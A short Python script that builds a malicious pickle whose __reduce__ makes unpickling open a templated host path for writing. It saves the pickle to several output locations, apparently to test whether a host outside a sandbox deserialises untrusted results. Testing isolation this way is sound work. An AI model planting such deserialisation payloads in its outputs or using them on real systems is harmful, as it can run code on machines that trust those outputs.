import pickle


class OpensOnTheHost:
    def __reduce__(self):
        return open, ("{{HOST_MARKER_PATH}}", "w")

    def __repr__(self):
        return "open('{{HOST_MARKER_PATH}}','w')"

    __str__ = __repr__


result = OpensOnTheHost()
_ = result
for name in ("result.pkl", "output.pkl", "/data/output/result.pkl"):
    try:
        with open(name, "wb") as file:
            file.write(pickle.dumps(result))
    except OSError:
        pass
print(repr(result))
result
